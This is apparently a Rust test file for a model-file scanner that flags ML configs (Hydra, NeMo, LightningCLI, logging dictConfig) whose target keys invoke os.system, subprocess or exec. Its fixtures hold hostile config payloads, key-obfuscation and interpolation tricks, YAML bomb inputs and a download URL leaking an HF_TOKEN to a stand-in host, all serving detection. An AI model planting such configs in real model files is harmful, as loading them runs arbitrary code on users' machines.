//! Instantiate configs (Hydra / OmegaConf `_target_`, NeMo's `model_config.yaml` inside a
//! `.nemo` tar): a target that runs a process or code is graded as the pickle calling it would
//! be, wherever the config sits; the configs real models ship (library classes, optimisers)
//! stay clean; text that only contains the letters is not read as a config; hostile configs
//! stay bounded.

use airlock::analyse::BudgetLimits;
use airlock::finding::{Severity, Span};
use airlock::scan::{scan_file, FileReport};
use airlock::Format;

fn scan_named(name: &str, bytes: &[u8]) -> FileReport {
    let dir = tempfile::tempdir().expect("tempdir");
    let p = dir.path().join(name);
    std::fs::write(&p, bytes).expect("write");
    scan_file(&p, BudgetLimits::default())
}

/// (severity, evidence, line) of every `config-target-call` finding.
fn targets(r: &FileReport) -> Vec<(Severity, String, Option<u64>)> {
    r.findings
        .iter()
        .filter(|f| f.rule.id == "config-target-call")
        .map(|f| {
            let line = match f.location.span {
                Some(Span::Line { line }) => Some(line),
                _ => None,
            };
            (f.severity, f.evidence.clone(), line)
        })
        .collect()
}

#[test]
fn a_process_target_is_critical_with_the_call_it_makes() {
    let r = scan_named(
        "model_config.yaml",
        b"name: demo\nencoder:\n  _target_: os.system\n  _args_: [\"echo airlock\"]\n",
    );
    assert_eq!(r.format, Format::HydraConfig);
    assert_eq!(
        targets(&r),
        vec![(
            Severity::Critical,
            "os.system('echo airlock')".to_string(),
            Some(3)
        )]
    );
}

#[test]
fn a_late_target_in_a_yaml_file_is_read() {
    // Past the 4 KiB head that decides other text, without byte-pattern rules.
    let mut yaml = "# notes\n".repeat(1000);
    yaml.push_str("run:\n  _target_: os.system\n  _args_: ['echo airlock']\n");
    let r = scan_named("config.yaml", yaml.as_bytes());
    assert_eq!(r.format, Format::HydraConfig);
    assert_eq!(targets(&r).len(), 1, "{:?}", r.findings);
    assert_eq!(targets(&r)[0].2, Some(1002));
}

#[test]
fn json_flow_and_aliases_are_read_as_yaml() {
    let r = scan_named(
        "cfg.json",
        br#"{"model": {"_target_": "subprocess.Popen", "args": "echo hi", "shell": true}}"#,
    );
    assert_eq!(
        targets(&r),
        vec![(
            Severity::Critical,
            "subprocess.Popen(args='echo hi', shell=True)".to_string(),
            Some(1)
        )]
    );
    // The target given through an anchor and an alias, in flow style.
    let r = scan_named(
        "flow.yaml",
        b"x: &t builtins.exec\nrun: {_target_: *t, _args_: ['print(1)']}\n",
    );
    assert_eq!(targets(&r).len(), 1, "{:?}", r.findings);
    assert_eq!(targets(&r)[0].0, Severity::Critical);
    assert_eq!(targets(&r)[0].1, "builtins.exec('print(1)')");
}

#[test]
fn a_nemo_archive_config_is_found_inside_the_tar() {
    let yaml = b"target: nemo.collections.asr.models.EncDecCTCModel\nencoder:\n  _target_: posix.system\n  _args_: ['echo airlock']\n";
    let mut tar = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::fast(),
    ));
    let mut h = tar::Header::new_gnu();
    h.set_size(yaml.len() as u64);
    h.set_mode(0o644);
    h.set_cksum();
    tar.append_data(&mut h, "./model_config.yaml", &yaml[..])
        .expect("append");
    let bytes = tar.into_inner().expect("tar").finish().expect("gzip");
    let r = scan_named("asr.nemo", &bytes);
    let t = targets(&r);
    assert_eq!(t.len(), 1, "{:?}", r.findings);
    assert_eq!(t[0].0, Severity::Critical);
    assert_eq!(t[0].1, "posix.system('echo airlock')");
    let f = r
        .findings
        .iter()
        .find(|f| f.rule.id == "config-target-call")
        .expect("finding");
    assert_eq!(
        f.location.members.last().map(String::as_str),
        Some("model_config.yaml")
    );
}

#[test]
fn nemo_older_target_key_counts_only_when_denylisted() {
    let r = scan_named(
        "model_config.yaml",
        b"target: os.system\n_x: {_target_: torch.nn.Linear, in_features: 4}\n",
    );
    assert_eq!(targets(&r).len(), 1, "{:?}", r.findings);
    assert_eq!(targets(&r)[0].0, Severity::Critical);
    // A `target` that names anything else is a word other YAML uses too.
    let r = scan_named(
        "model_config.yaml",
        b"target: my_proj.Model\n_x: {_target_: torch.nn.Linear}\n",
    );
    assert_eq!(targets(&r), vec![]);
}

#[test]
fn library_targets_are_clean_and_unknown_ones_low() {
    let benign = b"model:\n  _target_: nemo.collections.asr.models.EncDecCTCModel\n  optim:\n    _target_: torch.optim.AdamW\n    lr: 0.001\n  sched:\n    _target_: transformers.get_linear_schedule_with_warmup\n    _partial_: true\n";
    let r = scan_named("config.yaml", benign);
    assert_eq!(r.format, Format::HydraConfig);
    assert_eq!(targets(&r), vec![]);
    let r = scan_named(
        "config.yaml",
        b"net:\n  _target_: my_project.models.Net\n  depth: 3\nenv:\n  _target_: ${oc.env:T}\n",
    );
    let t = targets(&r);
    assert_eq!(
        t.iter().map(|x| x.0).collect::<Vec<_>>(),
        vec![Severity::Low, Severity::Low]
    );
    assert_eq!(t[0].1, "my_project.models.Net(depth=3)");
}

#[test]
fn text_with_the_letters_is_not_a_config() {
    let r = scan_named(
        "utils.cmake",
        b"set(__target_name foo)\nforeach(_target_ IN LISTS x)\nendforeach()\n",
    );
    assert_eq!(r.format, Format::Text);
    // A broken document: the walk stops, nothing is invented.
    let r = scan_named("bad.yaml", b"_target_: [unclosed\n  - : :\n");
    assert_eq!(targets(&r), vec![]);
}

#[test]
fn hostile_configs_are_bounded() {
    // 70 malicious nodes: 64 reported, the rest counted in one resource-limit finding. The 64
    // are critical, so each is listed (only low and info repeats fold, docs/json-output.md).
    let mut many = String::new();
    for i in 0..70 {
        many.push_str(&format!(
            "n{i}: {{_target_: os.system, _args_: ['echo {i}']}}\n"
        ));
    }
    let r = scan_named("many.yaml", many.as_bytes());
    assert_eq!(targets(&r).len(), 64);
    assert!(r
        .findings
        .iter()
        .filter(|f| f.rule.id == "config-target-call")
        .all(|f| f.severity == Severity::Critical && f.folded == 0));
    assert!(r
        .findings
        .iter()
        .any(|f| f.rule.id == "resource-limit"
            && f.evidence.contains("6 further targets not reported")));
    // Over a million events: the walk stops and says so.
    let mut big = String::from("_target_: torch.nn.Linear\nx: [");
    big.push_str(&"1,".repeat(1_000_100));
    big.push_str("1]\n");
    let r = scan_named("big.yaml", big.as_bytes());
    assert!(
        r.findings.iter().any(|f| f.rule.id == "resource-limit"
            && f.severity == Severity::Medium
            && f.message.contains("YAML events")),
        "{:?}",
        r.findings.iter().map(|f| &f.message).collect::<Vec<_>>()
    );
    // Deep flow nesting and a billion-laughs alias chain: no expansion, no panic.
    let deep = format!(
        "_target_: x.y\nz: {}{}\n",
        "[".repeat(50_000),
        "]".repeat(50_000)
    );
    let _ = scan_named("deep.yaml", deep.as_bytes());
    let mut laughs = String::from("_target_: a.b\na: &a [\"lol\",\"lol\"]\n");
    for i in 0..30 {
        laughs.push_str(&format!(
            "l{i}: &l{i} [*{}, *{}]\n",
            if i == 0 {
                "a".to_string()
            } else {
                format!("l{}", i - 1)
            },
            if i == 0 {
                "a".to_string()
            } else {
                format!("l{}", i - 1)
            }
        ));
    }
    let r = scan_named("laughs.yaml", laughs.as_bytes());
    assert_eq!(r.format, Format::HydraConfig);
}

/// How the key may be spelled (t15): YAML and JSON escapes, tags and anchors on the key, a
/// complex key, a BOM, torchtune's `_component_`; and PyYAML's extra line breaks (U+2028 ends a
/// comment for Hydra's loader).
#[test]
fn hidden_key_spellings_are_read() {
    let cases: &[(&str, &str)] = &[
        (
            "c.yaml",
            "m:\n  \"\\x5ftarget_\": os.system\n  _args_: ['echo airlock']\n",
        ),
        (
            "c.json",
            "{\"m\": {\"\\u005ftarget_\": \"os.system\", \"_args_\": [\"echo airlock\"]}}",
        ),
        (
            "c.yaml",
            "m:\n  !!str _target_: os.system\n  _args_: ['echo airlock']\n",
        ),
        (
            "c.yaml",
            "m:\n  &k _target_: os.system\n  _args_: ['echo airlock']\n",
        ),
        (
            "c.yaml",
            "m:\n  ? _target_\n  : os.system\n  _args_: ['echo airlock']\n",
        ),
        (
            "c.yaml",
            "\u{feff}_target_: os.system\n_args_: ['echo airlock']\n",
        ),
        (
            "c.json",
            "{\"_target_\"\n: \"os.system\", \"_args_\": [\"echo airlock\"]}",
        ),
        (
            "c.yaml",
            "m:\n  _component_: os.system\n  _args_: ['echo airlock']\n",
        ),
        (
            "c.yaml",
            "# notes\u{2028}_target_: os.system\n_args_: ['echo airlock']\n",
        ),
    ];
    // An explicit key folded by an escaped line break whose next line is indented far past
    // any window (tester t17 z03): PyYAML drops the indent.
    let folded = format!(
        "m:\n  ? \"\\x5f\\\n{}target_\"\n  : os.system\n  command: 'echo airlock'\n",
        " ".repeat(300)
    );
    let cases: Vec<(&str, &str)> = cases
        .iter()
        .copied()
        .chain([("c.yaml", folded.as_str())])
        .collect();
    for (name, text) in cases {
        let r = scan_named(name, text.as_bytes());
        assert_eq!(
            targets(&r).first().map(|t| t.0),
            Some(Severity::Critical),
            "{text:?}: {:?}",
            r.findings.iter().map(|f| &f.message).collect::<Vec<_>>()
        );
    }
}

/// An implicit key folded over two lines is no key for PyYAML, which stops there (tester t15
/// k07): the parser's stop is reported at medium, as for a file naming `_target_`.
#[test]
fn a_folded_implicit_target_key_stops_the_parser_at_medium() {
    let r = scan_named(
        "c.yaml",
        b"model:\n  \"_targ\\\n    et_\": os.system\n  _args_: ['echo airlock']\n",
    );
    assert_eq!(
        r.findings
            .iter()
            .filter(|f| f.rule.id == "resource-limit")
            .map(|f| f.severity)
            .max(),
        Some(Severity::Medium)
    );
}

/// Interpolations the file itself answers are followed (`${cmd}`, `${mod}.system`, the default
/// of `${oc.env:VAR,…}` and `${oc.select:key,…}`).
#[test]
fn interpolations_are_resolved_in_the_file() {
    for text in [
        "cmd: os.system\nrun:\n  _target_: ${cmd}\n  _args_: ['echo airlock']\n",
        "mod: os\nrun:\n  _target_: ${mod}.system\n",
        "a:\n  b: subprocess.getoutput\nrun: {_target_: '${a.b}'}\n",
        "run: {_target_: '${oc.env:UNSET_VAR,os.system}'}\n",
        "run: {_target_: '${oc.select:nothing,subprocess.getoutput}'}\n",
    ] {
        let r = scan_named("c.yaml", text.as_bytes());
        assert_eq!(
            targets(&r).first().map(|t| t.0),
            Some(Severity::Critical),
            "{text}: {:?}",
            r.findings.iter().map(|f| &f.message).collect::<Vec<_>>()
        );
    }
}

/// Real training configs name library loaders and the config system's own helpers: low or
/// nothing, never a gate failure; a loader handed a URL, or told to unpickle, is more.
#[test]
fn library_loaders_are_graded_by_what_they_load() {
    let benign = "model:\n  _target_: transformers.AutoModelForCausalLM.from_pretrained\n  pretrained_model_name_or_path: meta-llama/Llama-3.2-1B\ntok:\n  _target_: transformers.AutoTokenizer.from_pretrained\ndata:\n  _target_: datasets.load_dataset\n  path: json\ncls:\n  _target_: hydra.utils.get_class\n  path: torch.nn.Linear\ncfg:\n  _target_: omegaconf.OmegaConf.load\n  file_: x.yaml\nparser:\n  _target_: accelerate.commands.launch.launch_command_parser\n";
    let r = scan_named("train.yaml", benign.as_bytes());
    assert!(
        targets(&r).iter().all(|t| t.0 <= Severity::Low),
        "{:?}",
        targets(&r)
    );
    let r = scan_named(
        "c.yaml",
        b"m:\n  _target_: lightning.pytorch.LightningModule.load_from_checkpoint\n  checkpoint_path: https://x.example.invalid/m.ckpt\n",
    );
    assert_eq!(targets(&r)[0].0, Severity::High);
    let r = scan_named(
        "c.yaml",
        b"m:\n  _target_: numpy.load\n  file: x.npy\n  allow_pickle: true\n",
    );
    assert_eq!(targets(&r)[0].0, Severity::Medium);
    // Keras told to run a saved Lambda's bytecode; an archive extracted into `/` (t15 t11).
    for text in [
        "m:\n  _target_: keras.saving.load_model\n  filepath: m.keras\n  safe_mode: false\n",
        "d:\n  _target_: monai.apps.utils.download_and_extract\n  url: https://x.example.invalid/a.tar\n  output_dir: /\n",
    ] {
        let r = scan_named("c.yaml", text.as_bytes());
        assert_eq!(targets(&r).first().map(|t| t.0), Some(Severity::Medium), "{text}");
    }
    let r = scan_named(
        "c.yaml",
        b"d:\n  _target_: monai.apps.utils.download_and_extract\n  url: https://x.example.invalid/a.tar\n  output_dir: ./data\n",
    );
    assert!(
        targets(&r).iter().all(|t| t.0 <= Severity::Low),
        "{:?}",
        targets(&r)
    );
    // The config system handed a callable that runs a process.
    let r = scan_named(
        "c.yaml",
        b"m:\n  _target_: hydra.utils.call\n  path: os.system\n",
    );
    assert_eq!(targets(&r)[0].0, Severity::Critical);
    // Library functions that run code from a file or a download.
    for t in [
        "mmengine.config.Config.fromfile",
        "torch.hub.load",
        "diffusers.utils.dynamic_modules_utils.get_class_from_dynamic_module",
    ] {
        let r = scan_named("c.yaml", format!("m:\n  _target_: {t}\n").as_bytes());
        assert_eq!(
            targets(&r).first().map(|x| x.0),
            Some(Severity::Critical),
            "{t}"
        );
    }
}

/// PyYAML's Python tags and MONAI's `$` expressions run code when such a file is read.
#[test]
fn python_tags_and_bundle_expressions_are_judged() {
    let r = scan_named(
        "c.yaml",
        b"_target_: torch.nn.Linear\nx: !!python/object/apply:os.system ['echo airlock']\n",
    );
    assert_eq!(targets(&r).first().map(|t| t.0), Some(Severity::Critical));
    let r = scan_named(
        "inference.yaml",
        b"network:\n  _target_: monai.networks.nets.UNet\n  spatial_dims: 3\ninit: \"$__import__('os').system('echo airlock')\"\n",
    );
    assert!(
        r.findings
            .iter()
            .any(|f| f.rule.id == "python-shell-command" && f.severity == Severity::High),
        "{:?}",
        r.findings.iter().map(|f| &f.message).collect::<Vec<_>>()
    );
    // Ordinary bundle expressions stay below medium.
    let r = scan_named(
        "inference.yaml",
        b"device: \"$torch.device('cuda' if torch.cuda.is_available() else 'cpu')\"\nnetwork:\n  _target_: monai.networks.nets.UNet\n  spatial_dims: 3\nparams: \"$@network.parameters()\"\n",
    );
    assert!(
        r.findings.iter().all(|f| f.severity < Severity::Medium),
        "{:?}",
        r.findings.iter().map(|f| &f.message).collect::<Vec<_>>()
    );
}

/// A document the parser stops in is reported, not passed over in silence.
#[test]
fn a_parse_stop_is_reported() {
    let deep = format!(
        "a: {}1{}\n_target_: os.system\n",
        "[".repeat(400),
        "]".repeat(400)
    );
    let r = scan_named("deep.yaml", deep.as_bytes());
    assert!(
        r.findings.iter().any(|f| f.rule.id == "resource-limit"),
        "{:?}",
        r.findings.iter().map(|f| &f.message).collect::<Vec<_>>()
    );
}

/// A stop (the event bound, a parse error, the size bound) loses nothing read before it: the
/// targets of mappings still open are judged, and the stop in a file naming `_target_` is
/// medium (tester t16).
#[test]
fn a_stop_keeps_the_targets_read_before_it() {
    // The target's mapping is still open when a million list items end the walk.
    let mut big = String::from("_target_: os.system\n_args_: ['echo airlock']\npad: [");
    big.push_str(&"1,".repeat(1_000_100));
    big.push_str("1]\n");
    let r = scan_named("big.yaml", big.as_bytes());
    assert_eq!(targets(&r).first().map(|t| t.0), Some(Severity::Critical));
    // A parse error after the target, inside its mapping.
    let r = scan_named(
        "bad.yaml",
        b"m:\n  _target_: os.system\n  x: \"unclosed\n  - : :\n",
    );
    assert_eq!(targets(&r).first().map(|t| t.0), Some(Severity::Critical));
    // Past the size bound: said, at medium.
    let mut huge = String::from("{\"_target_\": \"os.system\"");
    while huge.len() <= airlock::formats::hydra::MAX_CONFIG {
        huge.push_str(", \"kkkkkkkkkkkkkkkk\": 1");
    }
    huge.push('}');
    let r = scan_named("c.json", huge.as_bytes());
    assert!(
        r.findings
            .iter()
            .any(|f| f.rule.id == "resource-limit" && f.severity == Severity::Medium),
        "{:?}",
        r.findings.iter().map(|f| &f.message).collect::<Vec<_>>()
    );
}

/// The worst `config-target-call` severity of one config (`None`: no finding).
fn worst_target(name: &str, text: &str) -> Option<Severity> {
    targets(&scan_named(name, text.as_bytes()))
        .into_iter()
        .map(|t| t.0)
        .max()
}

#[test]
fn logging_dictconfig_factories_and_handler_classes_are_targets() {
    let cases: &[(&str, &str, Option<Severity>)] = &[
        (
            "config.yaml",
            "hydra:\n  job_logging:\n    version: 1\n    handlers:\n      x: {(): os.system, command: 'echo airlock'}\n    root: {handlers: [x]}\n",
            Some(Severity::Critical),
        ),
        (
            "logging.json",
            r#"{"version": 1, "formatters": {"f": {"()": "subprocess.getoutput", "cmd": "echo airlock"}}}"#,
            Some(Severity::Critical),
        ),
        (
            "job_logging.yaml",
            "version: 1\nhandlers:\n  h:\n    class: subprocess.Popen\n    args: 'echo airlock'\n",
            Some(Severity::Critical),
        ),
        // Hydra's default job logging, colorlog's formatter and the standard handlers.
        (
            "job_logging.yaml",
            "version: 1\nformatters:\n  simple:\n    format: '[%(asctime)s] %(message)s'\n  colorlog:\n    (): colorlog.ColoredFormatter\nhandlers:\n  console:\n    class: logging.StreamHandler\n    stream: ext://sys.stdout\n  file:\n    class: logging.handlers.RotatingFileHandler\n    filename: run.log\n",
            Some(Severity::Low),
        ),
    ];
    for (name, text, want) in cases {
        assert_eq!(worst_target(name, text), *want, "{text}");
    }
}

#[test]
fn fiddle_references_of_nemo2_io_json_are_targets() {
    let io = r#"{"root": {"type": "ref", "key": "buildable_1"}, "objects": {"buildable_1": {"type": {"type": "pyref", "module": "os", "name": "system"}, "arguments": {"command": "echo airlock"}}}}"#;
    assert_eq!(worst_target("io.json", io), Some(Severity::Critical));
    let benign = r#"{"objects": {"b": {"type": {"type": "pyref", "module": "nemo.collections.llm.gpt.model.llama", "name": "LlamaModel"}}}}"#;
    assert_eq!(worst_target("io.json", benign), None);
}

#[test]
fn relative_list_and_decoded_interpolations_resolve() {
    let cases = [
        "fns: [torch.nn.ReLU, os.system]\nrun:\n  _target_: ${fns[1]}\n",
        "fns: [torch.nn.ReLU, os.system]\nrun:\n  _target_: ${fns.1}\n",
        "run:\n  fn: os.system\n  _target_: ${.fn}\n",
        "outer:\n  fn: os.system\n  run:\n    _target_: ${..fn}\n",
        "run:\n  _target_: ${oc.decode:'os.system'}\n",
    ];
    for text in cases {
        assert_eq!(
            worst_target("config.yaml", text),
            Some(Severity::Critical),
            "{text}"
        );
    }
}

#[test]
fn library_calls_are_graded_by_what_they_run() {
    let cases: &[(&str, Option<Severity>)] = &[
        // Real configs: a pipeline and a Hub download.
        ("p:\n  _target_: transformers.pipeline\n  task: text-generation\n  model: gpt2\n", Some(Severity::Low)),
        ("f:\n  _target_: huggingface_hub.hf_hub_download\n  repo_id: org/model\n  filename: config.json\n", Some(Severity::Low)),
        // A native library loaded at instantiate time.
        ("l:\n  _target_: torch.ops.load_library\n  path: /tmp/x.so\n", Some(Severity::Critical)),
        // Told to run the repository's code.
        ("m:\n  _target_: transformers.AutoModelForCausalLM.from_pretrained\n  pretrained_model_name_or_path: org/model\n  trust_remote_code: true\n", Some(Severity::Medium)),
        // An environment secret in what a download sends.
        ("d:\n  _target_: torch.hub.download_url_to_file\n  url: https://x.example.invalid/f?t=${oc.env:HF_TOKEN}\n  dst: /tmp/f\n", Some(Severity::High)),
        ("c:\n  _target_: lightning.fabric.utilities.cloud_io._load\n  path_or_url: https://x.example.invalid/m.ckpt\n", Some(Severity::High)),
    ];
    for (text, want) in cases {
        assert_eq!(worst_target("config.yaml", text), *want, "{text}");
    }
}

#[test]
fn comment_padding_and_large_sd_configs_do_not_hide_a_target() {
    let mut yaml = format!("# {}\n", "x".repeat(9 << 20));
    yaml.push_str("run:\n  _target_: os.system\n  _args_: ['echo airlock']\n");
    assert_eq!(worst_target("config.yaml", &yaml), Some(Severity::Critical));
    let mut sd = format!("# {}\n", "x".repeat(2 << 20));
    sd.push_str("model:\n  target: os.system\n  params:\n    command: echo airlock\n");
    assert_eq!(
        worst_target("v1-inference.yaml", &sd),
        Some(Severity::Critical)
    );
    // The same in JSON, which OmegaConf loads as YAML (tester t17 z07); a tokenizer's
    // post-processor with a `"target"` key and no `"params"` is no config.
    let json = r#"{"model": {"target": "os.system", "params": {"command": "echo airlock"}}}"#;
    assert_eq!(worst_target("model.json", json), Some(Severity::Critical));
    let post = r#"{"post_processor": {"type": "TemplateProcessing", "target": "os.system", "single": []}}"#;
    assert_eq!(
        scan_named("tokenizer.json", post.as_bytes()).format,
        Format::Text
    );
}

#[test]
fn vocabulary_tokens_that_look_like_logging_keys_are_not_configs() {
    let vocab = r#"{"vocab": [{"rank": 1, "token_str": "()"}, {"rank": 2, "token_str": " handlers"}, {"rank": 3, "token_str": " class"}]}"#;
    let r = scan_named("tekken.json", vocab.as_bytes());
    assert_eq!(r.format, Format::Text);
    assert!(r.findings.is_empty(), "{:?}", r.findings);
}

#[test]
fn cpp_initialisers_and_python_stubs_with_parentheses_are_not_configs() {
    for (name, text) in [
        (
            "GridSampler.h",
            "#pragma once\nstruct S {\n  S(): x(0) {}\n  int x;\n};\nclass handlers { public: int class_id; };\n",
        ),
        ("transform.pyi", "from typing import Any\ndef nullTransform(): ...\ndef translate(dx, dy): ...\n"),
    ] {
        let r = scan_named(name, text.as_bytes());
        assert_eq!(r.format, Format::Text, "{name}");
        assert!(r.findings.is_empty(), "{name}: {:?}", r.findings);
    }
    // A YAML logging config's plain `():` key at the start of a line is one.
    let r = scan_named(
        "logging.yaml",
        b"version: 1\nformatters:\n  f:\n    ():\n      os.system\n",
    );
    assert_eq!(r.format, Format::HydraConfig);
}

/// `${eval:'…'}` runs Python where a project registers `eval` as a resolver (tester t15 k21):
/// the code is judged as Python run at load, capped at medium; arithmetic is nothing.
#[test]
fn code_in_eval_resolvers_is_judged_as_python_at_medium() {
    let bad = "model:\n  _target_: torch.nn.Linear\n  in_features: ${eval:'__import__(\"os\").system(\"echo airlock\") or 4'}\n  out_features: 2\n";
    let r = scan_named("c.yaml", bad.as_bytes());
    let worst = r
        .findings
        .iter()
        .filter(|f| f.rule.id == "python-shell-command")
        .map(|f| (f.severity, f.location.span.clone()))
        .max_by_key(|x| x.0);
    assert_eq!(
        worst,
        Some((Severity::Medium, Some(Span::Line { line: 3 })))
    );
    let good = "model:\n  _target_: torch.nn.Linear\n  in_features: ${eval:'${width} * 2'}\n  out_features: ${eval:\"max(1, ${n} // 4)\"}\nwidth: 4\nn: 8\n";
    let r = scan_named("c.yaml", good.as_bytes());
    assert!(
        r.findings.iter().all(|f| f.severity < Severity::Medium),
        "{:?}",
        r.findings
    );
}

/// jsonargparse's `class_path` (LightningCLI configs) names a class it imports and calls with
/// `init_args` when the argument's type admits it (tester t17 s03): a denylisted path is
/// medium at most; the ordinary classes of a training config are nothing.
#[test]
fn lightningcli_class_paths_are_judged_at_medium_at_most() {
    let bad = "model:\n  class_path: subprocess.Popen\n  init_args:\n    args: 'echo airlock'\n    shell: true\n";
    let r = scan_named("config.yaml", bad.as_bytes());
    assert_eq!(r.format, Format::HydraConfig);
    assert_eq!(
        targets(&r).first().map(|t| (t.0, t.2)),
        Some((Severity::Medium, Some(2)))
    );
    let good = "trainer:\n  accelerator: gpu\n  callbacks:\n    - class_path: lightning.pytorch.callbacks.ModelCheckpoint\n      init_args:\n        monitor: val_loss\nmodel:\n  class_path: mypkg.models.LitClassifier\n  init_args:\n    lr: 0.001\noptimizer:\n  class_path: torch.optim.AdamW\n";
    let r = scan_named("config.yaml", good.as_bytes());
    assert!(
        r.findings.iter().all(|f| f.severity < Severity::Medium),
        "{:?}",
        r.findings
    );
}

/// A CI workflow the YAML parser stops in (a flow sequence closed at its key's indent), with a
/// `target:` matrix key and a shell variable whose name holds the letters `_target_`: the
/// stop is not medium, since the file names no target key as a word. The same
/// file with a `_target_:` key after the stop is medium (what follows it is not judged).
#[test]
fn letters_of_a_target_key_inside_a_longer_name_do_not_make_a_stop_medium() {
    let workflow = "name: Release\non:\n  push:\n    paths: [\n      '**/*.cpp',\n      '**/*.cu'\n    ]\nenv:\n  GH_TOKEN: ${{ github.token }}\njobs:\n  build:\n    strategy:\n      matrix:\n        include:\n          - target: 'ggml-vulkan'\n    steps:\n      - run: |\n          realpath_target_zip=$(realpath \"$target_zip\")\n          echo \"$realpath_target_zip\"\n";
    let stop = |r: &FileReport| -> Vec<Severity> {
        r.findings
            .iter()
            .filter(|f| f.rule.id == "resource-limit" && f.message.contains("YAML parser stopped"))
            .map(|f| f.severity)
            .collect()
    };
    let r = scan_named("release.yml", workflow.as_bytes());
    assert!(
        stop(&r).iter().all(|s| *s < Severity::Medium),
        "{:?}",
        r.findings
    );
    assert!(
        r.worst().is_none_or(|w| w < Severity::Medium),
        "{:?}",
        r.findings
    );
    let keyed = format!("{workflow}hook:\n  _target_: os.system\n");
    let r = scan_named("release.yml", keyed.as_bytes());
    assert_eq!(stop(&r), vec![Severity::Medium], "{:?}", r.findings);
}
